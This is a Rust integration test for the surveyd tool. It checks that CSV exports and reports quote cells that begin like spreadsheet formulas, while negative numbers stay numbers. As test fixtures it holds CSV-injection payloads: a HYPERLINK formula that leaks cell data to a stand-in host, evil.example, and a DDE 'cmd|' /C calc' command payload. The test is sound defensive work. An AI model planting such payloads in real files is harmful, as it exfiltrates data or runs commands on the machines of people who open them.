//! CSV that surveyd writes cannot run in a spreadsheet: contacts imported with agent names,
//! teams, categories and ids that begin like formulas, answered with such comments, come out
//! of `surveyd report --format csv` and `surveyd export responses --format csv` with every
//! such cell prefixed by `'` — read back by Python's `csv` module, cell by cell — while the
//! numbers surveyd computed, negative ones included, stay numbers. Both backends.

use crate::support;
use crate::support::TestDb;
use std::path::Path;
use std::process::Command;
use surveyd::alerts::AlertRule;
use surveyd::store::StoredAnswer;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A2,"details")"#;

/// `surveyd` with the test's database, in `dir`.
fn surveyd(db: &TestDb, dir: &Path, args: &[&str]) -> String {
    let config = format!("[database]\nurl = \"{}\"\n", db.url);
    support::surveyd_with_config(dir, &config, args)
}

/// Python's `csv` reading of `file`: every cell that begins like a formula must be a plain
/// decimal number or start with `'`. Prints how many cells were quoted and how many were
/// negative numbers, or exits 1 naming the bad cell's row and column.
const CHECK: &str = r#"
import csv, re, sys
quoted = negative = 0
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    for r, row in enumerate(csv.reader(f), 1):
        for c, cell in enumerate(row, 1):
            if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t", "\r"):
                quoted += 1
            elif cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                if re.fullmatch(r"-\d+(\.\d+)?", cell):
                    negative += 1
                else:
                    print(f"row {r}, column {c}: {cell!r}")
                    sys.exit(1)
print(quoted, negative)
"#;

/// (cells quoted, negative numbers) in the CSV file, as Python reads it.
fn check(file: &Path) -> (usize, usize) {
    let out = Command::new("python3")
        .arg("-c")
        .arg(CHECK)
        .arg(file)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}: a formula cell got through: {stdout}{}",
        file.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    let mut counts = stdout.split_whitespace().map(|n| n.parse().unwrap());
    (counts.next().unwrap(), counts.next().unwrap())
}

async fn hostile_cells_are_quoted_and_numbers_kept(db: &TestDb) {
    let dir = tempfile::tempdir().unwrap();
    let now = chrono::Utc::now();
    let closed = (now - chrono::Duration::hours(3)).to_rfc3339();
    let contacts = dir.path().join("contacts.csv");
    let mut writer = csv::Writer::from_path(&contacts).unwrap();
    writer
        .write_record([
            "contact_id",
            "closed_at",
            "customer_id",
            "email",
            "agent_id",
            "agent_name",
            "team",
            "category",
        ])
        .unwrap();
    let rows = [
        ("=T-1", "+C-1", "@A-1", HYPERLINK, "+Billing", "-refund"),
        (
            "T-2",
            "C-2",
            "-A-2",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=Sales",
            "=1+1",
        ),
        ("T-3", "C-3", "A-3", "Sari", "Support", "billing"),
    ];
    for (i, (contact, customer, agent, name, team, category)) in rows.iter().enumerate() {
        let email = format!("c{i}@example.co.id");
        writer
            .write_record([
                *contact, &closed, customer, &email, agent, name, team, category,
            ])
            .unwrap();
    }
    writer.flush().unwrap();
    surveyd(
        db,
        dir.path(),
        &["contacts", "import", contacts.to_str().unwrap()],
    );

    let settings = db.settings();
    let sent = now - chrono::Duration::minutes(30);
    let claimed = support::plan_and_send(db, &settings, now, |_| sent).await;
    assert_eq!(claimed.len(), 3);
    for (c, comment) in claimed.iter().zip(["=1+2", "\t=cmd", "\r@x"]) {
        let answers = [
            ("csat", Some("csat"), Some(1), None),
            ("recommend", Some("nps"), Some(0), None),
            ("comment", None, None, Some(comment)),
        ]
        .map(|(question, metric, number, text)| StoredAnswer {
            question: question.into(),
            metric: metric.map(str::to_owned),
            number,
            text: text.map(str::to_owned),
        });
        db.store
            .save_answers(
                c.invitation_id,
                &answers,
                "email",
                now,
                &AlertRule::new(&settings.alerts),
            )
            .await
            .unwrap();
    }

    let export = dir.path().join("export.csv");
    surveyd(
        db,
        dir.path(),
        &[
            "export",
            "responses",
            "--format",
            "csv",
            "--output",
            export.to_str().unwrap(),
        ],
    );
    // A contact id, a customer id, two agent ids, two teams, two categories, three comments.
    let (quoted, _) = check(&export);
    assert_eq!(
        quoted,
        1 + 1 + 2 + 2 + 2 + 3,
        "{}",
        std::fs::read_to_string(&export).unwrap()
    );

    for by in ["agent", "team,category"] {
        let report = dir.path().join("report.csv");
        let text = surveyd(db, dir.path(), &["report", "--by", by, "--format", "csv"]);
        std::fs::write(&report, &text).unwrap();
        let (quoted, negative) = check(&report);
        assert!(quoted >= 3, "--by {by}: {text}");
        // Every answer's NPS is -100: the numbers stay numbers.
        assert!(negative >= 1, "--by {by}: {text}");
        assert!(!text.contains("'-100"), "--by {by}: {text}");
    }
}

on_both_backends!(hostile_cells_are_quoted_and_numbers_kept);
